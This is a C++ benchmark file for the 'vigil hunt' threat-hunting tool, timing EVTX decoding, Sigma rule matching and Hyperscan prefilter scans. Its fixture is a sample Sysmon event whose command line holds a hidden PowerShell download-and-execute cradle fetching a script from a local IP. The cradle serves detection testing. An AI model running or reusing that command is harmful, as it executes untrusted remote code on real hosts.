// Micro-benchmarks (Google Benchmark) for the hot paths behind `vigil hunt`:
//
//   BM_EvtxChunkDecode       decode one real EVTX chunk (open_input + read_unit)
//   BM_MatchProcessCreation  Matcher::match of one Sysmon process-creation event
//                            against 10, 100, 1000 and all corpus rules
//   BM_EventViewReset        EventView::reset alone (the matcher's per-event view)
//   BM_PrefilterScan         EventView::reset + the prefilter scan of every value,
//                            as Matcher::match does it, without rule evaluation
//
// Corpus: $VIGIL_CORPUS, else ../shared/corpus beside the source tree. Without
// it the benchmarks that need it report an error (SkipWithError) and the rest run.
// Rule subsets are a fixed seeded choice (std::mt19937(42) shuffle of the sorted
// list of rule files of the five sigma folders), compiled without the cache.
#include <benchmark/benchmark.h>
#include <hs/hs.h>

#include <algorithm>
#include <cctype>
#include <cstdlib>
#include <filesystem>
#include <map>
#include <memory>
#include <random>
#include <string>
#include <vector>

#include "detection/logsource_map.hpp"
#include "detection/sigma/pattern.hpp"
#include "detection/sigma/ruleset.hpp"
#include "event/field_map.hpp"
#include "sources/input.hpp"
#include "sources/jsonl_reader.hpp"

#ifndef VIGIL_SOURCE_DIR
#define VIGIL_SOURCE_DIR "."
#endif

namespace fs = std::filesystem;

namespace {

// The corpus root, or "" when absent.
std::string corpus_root() {
  std::string root;
  if (const char* env = std::getenv("VIGIL_CORPUS"); env && *env)
    root = env;
  else
    root = std::string(VIGIL_SOURCE_DIR) + "/../shared/corpus";
  std::error_code ec;
  return fs::is_directory(root, ec) ? root : std::string();
}

std::vector<std::string> files_under(const std::string& dir, bool (*wanted)(const fs::path&)) {
  std::vector<std::string> out;
  std::error_code ec;
  if (dir.empty() || !fs::is_directory(dir, ec)) return out;
  for (auto it = fs::recursive_directory_iterator(dir, fs::directory_options::follow_directory_symlink, ec);
       !ec && it != fs::recursive_directory_iterator(); it.increment(ec))
    if (it->is_regular_file(ec) && wanted(it->path())) out.push_back(it->path().string());
  std::sort(out.begin(), out.end());
  return out;
}

bool is_evtx(const fs::path& p) {
  std::string e = p.extension().string();
  std::transform(e.begin(), e.end(), e.begin(), [](unsigned char c) { return static_cast<char>(std::tolower(c)); });
  return e == ".evtx";
}
bool is_rule(const fs::path& p) { return p.extension() == ".yml" || p.extension() == ".yaml"; }

// ---------------------------------------------------------------------------
// (a) EVTX chunk decoding
// ---------------------------------------------------------------------------

// The largest .evtx file of evtx-attack-samples, opened once, and its chunk with
// the most records.
struct ChunkFixture {
  std::unique_ptr<vigil::Input> input;
  size_t unit = 0;
  size_t events = 0;
  std::string error;
};

const ChunkFixture& chunk_fixture() {
  static const ChunkFixture f = [] {
    ChunkFixture out;
    const std::string root = corpus_root();
    auto files = files_under(root.empty() ? "" : root + "/evtx-attack-samples", is_evtx);
    if (files.empty()) {
      out.error = "corpus not found (set VIGIL_CORPUS to the root holding evtx-attack-samples/)";
      return out;
    }
    std::error_code ec;
    auto biggest = std::max_element(files.begin(), files.end(), [&](const std::string& a, const std::string& b) {
      return fs::file_size(a, ec) < fs::file_size(b, ec);
    });
    vigil::Problems problems;
    out.input = vigil::open_input(*biggest, 0, problems);
    if (!out.input || out.input->kind() != vigil::InputKind::Evtx || out.input->unit_count() == 0) {
      out.error = "cannot open " + *biggest + " as EVTX";
      out.input.reset();
      return out;
    }
    vigil::ReadContext ctx(vigil::FieldMap::builtin());
    for (size_t u = 0; u < out.input->unit_count(); ++u) {
      size_t n = 0;
      ctx.arena.reset();
      out.input->read_unit(u, ctx, [&](const vigil::Event&) { ++n; }, problems);
      if (n > out.events) {
        out.events = n;
        out.unit = u;
      }
    }
    if (out.events == 0) out.error = "no records decoded from " + *biggest;
    return out;
  }();
  return f;
}

void BM_EvtxChunkDecode(benchmark::State& state) {
  const ChunkFixture& f = chunk_fixture();
  if (!f.error.empty()) {
    state.SkipWithError(f.error.c_str());
    return;
  }
  vigil::ReadContext ctx(vigil::FieldMap::builtin());
  vigil::Problems problems;
  size_t events = 0;
  for (auto _ : state) {
    ctx.arena.reset();
    problems.clear();
    f.input->read_unit(f.unit, ctx, [&](const vigil::Event& ev) {
      ++events;
      benchmark::DoNotOptimize(ev.fields.data());
    }, problems);
  }
  state.SetItemsProcessed(static_cast<int64_t>(events));  // records/s
  state.SetBytesProcessed(static_cast<int64_t>(state.iterations()) * 65536);  // EVTX chunks are 64 KiB
  state.SetLabel(fs::path(f.input->path()).filename().string() + " chunk " + std::to_string(f.unit) + ", " +
                 std::to_string(f.events) + " records");
}
BENCHMARK(BM_EvtxChunkDecode);

// ---------------------------------------------------------------------------
// (b), (c) Sigma matching
// ---------------------------------------------------------------------------

const std::vector<std::string>& rule_files() {
  static const std::vector<std::string> files = [] {
    std::vector<std::string> out;
    const std::string root = corpus_root();
    if (root.empty()) return out;
    for (const char* d : {"rules", "rules-threat-hunting", "rules-emerging-threats", "rules-placeholder",
                          "rules-compliance"}) {
      auto f = files_under(root + "/sigma/" + d, is_rule);
      out.insert(out.end(), f.begin(), f.end());
    }
    std::sort(out.begin(), out.end());
    return out;
  }();
  return files;
}

// A RuleSet of `n` rules (n < 0: all), compiled once per size and kept.
const vigil::sigma::RuleSet* ruleset(int64_t n, std::string* error) {
  static std::map<int64_t, std::unique_ptr<vigil::sigma::RuleSet>> sets;
  auto it = sets.find(n);
  if (it != sets.end()) return it->second.get();
  std::vector<std::string> files = rule_files();
  if (files.empty()) {
    *error = "sigma rules not found (set VIGIL_CORPUS to the root holding sigma/)";
    return nullptr;
  }
  if (n >= 0) {
    if (static_cast<size_t>(n) > files.size()) {
      *error = "fewer rule files than asked for";
      return nullptr;
    }
    std::mt19937 rng(42);
    std::shuffle(files.begin(), files.end(), rng);
    files.resize(static_cast<size_t>(n));
    std::sort(files.begin(), files.end());
  }
  vigil::sigma::RuleSetOptions o;
  o.logsources = vigil::LogSourceMap::builtin();
  // o.cache_dir empty: always compiled, so the benchmark measures this build's matcher.
  auto rs = std::make_unique<vigil::sigma::RuleSet>(std::move(o));
  rs->load_paths(files);
  auto* p = rs.get();
  sets.emplace(n, std::move(rs));
  return p;
}

// One Sysmon process-creation event (evtx_dump layout), parsed once.
struct EventFixture {
  vigil::ReadContext ctx{vigil::FieldMap::builtin()};
  std::string error;
};

const vigil::Event* process_creation_event(std::string* error) {
  static EventFixture f;
  static bool ok = [] {
    const std::string json = R"J({"Event":{"System":{"Provider":{"#attributes":{"Name":"Microsoft-Windows-Sysmon",)J"
        R"J("Guid":"5770385F-C22A-43E0-BF4C-06F5698FFBD9"}},"EventID":1,"Version":5,"Level":4,"Task":1,)J"
        R"J("Opcode":0,"Keywords":"0x8000000000000000","TimeCreated":{"#attributes":{"SystemTime":)J"
        R"J("2019-05-14T14:03:55.123456Z"}},"EventRecordID":4321,"Execution":{"#attributes":{"ProcessID":2148,)J"
        R"J("ThreadID":3400}},"Channel":"Microsoft-Windows-Sysmon/Operational","Computer":"WS01.corp.local",)J"
        R"J("Security":{"#attributes":{"UserID":"S-1-5-18"}}},"EventData":{"RuleName":"-",)J"
        R"J("UtcTime":"2019-05-14 14:03:55.120","ProcessGuid":"{747F3D96-CB1B-5CDA-0000-00104A6F2D00}",)J"
        R"J("ProcessId":5564,"Image":"C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",)J"
        R"J("FileVersion":"10.0.17763.1 (WinBuild.160101.0800)","Description":"Windows PowerShell",)J"
        R"J("Product":"Microsoft\u00ae Windows\u00ae Operating System","Company":"Microsoft Corporation",)J"
        R"J("OriginalFileName":"PowerShell.EXE","CommandLine":"powershell.exe -NoP -NonI -W Hidden -Exec Bypass )J"
        R"J(-Command \"IEX (New-Object Net.WebClient).DownloadString('http://10.0.2.15:8080/a.ps1')\"",)J"
        R"J("CurrentDirectory":"C:\\Users\\alice\\","User":"CORP\\alice",)J"
        R"J("LogonGuid":"{747F3D96-C8A1-5CDA-0000-0020E9A20400}","LogonId":"0x4a2e9","TerminalSessionId":1,)J"
        R"J("IntegrityLevel":"Medium","Hashes":"SHA1=6CBCE4A295C163791B60FC23D285E6D84F28EE4C,)J"
        R"J(MD5=7353F60B1739074EB17C5F4DDDEFE239,SHA256=DE96A6E69944335375DC1AC238336066889D9FFC7D73628EF4FE1B1B160AB32C,)J"
        R"J(IMPHASH=741776AACCFC5B71FF59832DCDCACE0F","ParentProcessGuid":"{747F3D96-CB0F-5CDA-0000-0010A2692D00}",)J"
        R"J("ParentProcessId":4824,"ParentImage":"C:\\Windows\\System32\\cmd.exe",)J"
        R"J("ParentCommandLine":"\"C:\\Windows\\system32\\cmd.exe\" /c run.bat"}}})J";
    if (!vigil::parse_json_event(json, f.ctx, -1, &f.error)) return false;
    return true;
  }();
  if (!ok) {
    *error = "event does not parse: " + f.error;
    return nullptr;
  }
  return &f.ctx.event;
}

// Registers bench(state, n) as NAME/rules:10, 100, 1000 and all (n = -1: every
// rule of the five sigma folders).
template <class F>
bool register_rule_counts(const char* name, F bench) {
  for (int64_t n : {10, 100, 1000, -1}) {
    const std::string full = std::string(name) + "/rules:" + (n < 0 ? std::string("all") : std::to_string(n));
    benchmark::RegisterBenchmark(full.c_str(), [bench, n](benchmark::State& s) { bench(s, n); });
  }
  return true;
}

void BM_MatchProcessCreation(benchmark::State& state, int64_t rule_count) {
  std::string error;
  const vigil::Event* ev = process_creation_event(&error);
  const vigil::sigma::RuleSet* rs = ev ? ruleset(rule_count, &error) : nullptr;
  if (!rs) {
    state.SkipWithError(error.c_str());
    return;
  }
  vigil::sigma::Matcher matcher(*rs);
  std::vector<uint32_t> hits;
  for (auto _ : state) {
    hits.clear();
    matcher.match(*ev, hits);
    benchmark::DoNotOptimize(hits.data());
  }
  state.SetItemsProcessed(static_cast<int64_t>(state.iterations()));  // events/s
  state.counters["rules"] = static_cast<double>(rs->rule_count());
  state.counters["hits"] = static_cast<double>(hits.size());
}
const bool match_registered = register_rule_counts("BM_MatchProcessCreation", BM_MatchProcessCreation);

void BM_EventViewReset(benchmark::State& state) {
  std::string error;
  const vigil::Event* ev = process_creation_event(&error);
  if (!ev) {
    state.SkipWithError(error.c_str());
    return;
  }
  vigil::sigma::EventView view;
  for (auto _ : state) {
    view.reset(*ev);
    benchmark::DoNotOptimize(view.slots().data());
  }
  state.SetItemsProcessed(static_cast<int64_t>(state.iterations()));
  state.counters["values"] = static_cast<double>(view.slots().size());
}
BENCHMARK(BM_EventViewReset);

// What Matcher::match does before evaluating any rule: the view, then one scan
// of each value with its field's databases in each of the event's groups (the
// candidate lists of its channel and EventID), and with their keyword databases.
void BM_PrefilterScan(benchmark::State& state, int64_t rule_count) {
  std::string error;
  const vigil::Event* ev = process_creation_event(&error);
  const vigil::sigma::RuleSet* rs = ev ? ruleset(rule_count, &error) : nullptr;
  if (!rs) {
    state.SkipWithError(error.c_str());
    return;
  }
  const vigil::sigma::Prefilter& pf = rs->prefilter();
  hs_scratch_t* scratch = pf.new_scratch();
  vigil::sigma::EventView view;
  struct Hits {
    std::vector<uint32_t> gen;
    uint32_t now = 0;
    size_t distinct = 0;
  } hits;
  hits.gen.assign(pf.id_count() + 1, 0);
  auto on_match = [](unsigned id, unsigned long long, unsigned long long, unsigned, void* c) -> int {
    auto* h = static_cast<Hits*>(c);
    if (h->gen[id] != h->now) {
      h->gen[id] = h->now;
      ++h->distinct;
    }
    return 0;
  };
  auto scan = [&](const vigil::sigma::Prefilter::Db* d, std::string_view text) {
    const hs_database_t* db = d ? d->get() : nullptr;
    if (db && scratch) hs_scan(db, text.data(), static_cast<unsigned>(text.size()), 0, scratch, on_match, &hits);
  };
  // The event's groups, as Matcher::match finds them.
  std::string channel;
  if (const vigil::Value* ch = ev->get("Channel")) vigil::append_text(channel, *ch);
  for (char& c : channel) c = static_cast<char>(std::tolower(static_cast<unsigned char>(c)));
  uint64_t eid = 0;
  const vigil::Value* e = ev->get("EventID");
  const bool has_eid = e && e->type == vigil::ValueType::UInt;
  if (has_eid) eid = e->u;
  const std::vector<uint32_t>* lists[4];
  const int n_lists = rs->candidate_lists(channel, !channel.empty(), static_cast<uint32_t>(eid), has_eid, lists);
  std::vector<uint32_t> groups;
  for (int l = 0; l < n_lists; ++l) groups.push_back(rs->list_info(lists[l]).group);
  size_t scanned = 0;
  for (auto _ : state) {
    ++hits.now;
    hits.distinct = 0;
    view.reset(*ev);
    const auto& names = view.field_names();
    for (size_t i = 0; i < names.size(); ++i) {
      view.for_each_slot_of(i, [&](vigil::sigma::EventView::Slot& s) {
        const std::string_view text = view.text_of(s);
        for (uint32_t g : groups) {
          scan(pf.db_for(g, names[i]), text);
          scan(pf.regex_db_for(g, names[i]), text);
          scan(pf.keyword_db(g), text);
        }
        ++scanned;
      });
    }
    benchmark::DoNotOptimize(hits.distinct);
  }
  if (scratch) hs_free_scratch(scratch);
  state.SetItemsProcessed(static_cast<int64_t>(state.iterations()));  // events/s
  state.counters["rules"] = static_cast<double>(rs->rule_count());
  state.counters["values_scanned"] =
      state.iterations() ? static_cast<double>(scanned) / static_cast<double>(state.iterations()) : 0;
  state.counters["prefilter_hits"] = static_cast<double>(hits.distinct);
}
const bool scan_registered = register_rule_counts("BM_PrefilterScan", BM_PrefilterScan);

}  // namespace

BENCHMARK_MAIN();
